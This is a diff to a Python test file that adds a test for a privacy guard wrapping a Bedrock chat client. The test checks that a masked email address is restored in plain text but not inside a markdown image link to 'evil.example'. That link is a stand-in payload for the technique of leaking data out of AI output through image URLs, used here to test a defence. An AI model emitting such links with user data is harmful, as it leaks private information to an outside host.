@@ -416,6 +416,20 @@ def test_results_and_citations_of_the_provider_come_back(bot: Bedrock, policy: A
     assert json.dumps(events).count(MAIL) == 5 and "EMAIL" not in json.dumps(events)
 
 
+def test_a_link_goes_on_from_result_to_result(bot: Bedrock, policy: Any) -> None:
+    bot.guard(policy)
+    for before, restored in (("to ", 1), ("![a](https://evil.example/?q=", 0)):
+        content = [{"text": before}, {"text": "<EMAIL_ADDRESS_1>"}]
+        blocks = [{"toolResult": {"toolUseId": "t1", "content": content}}]
+        body = {"output": {"message": {"role": "assistant", "content": blocks}}, "stopReason": "end_turn"}
+        bot.provider.reply(
+            Raw(200, {"content-type": "application/json"}, json.dumps(body).encode()),
+            stream_of(delta({"toolResult": content})),
+        )
+        for reply in (bot.converse(MAIL), bot.streamed(MAIL)):
+            assert str(reply).count(MAIL) == restored
+
+
 def test_a_stream_that_breaks_off_gives_what_was_held(bot: Bedrock, policy: Any) -> None:
     bot.guard(policy)
     error = frame(b'{"message": "slow down"}', "exception", "throttlingException")
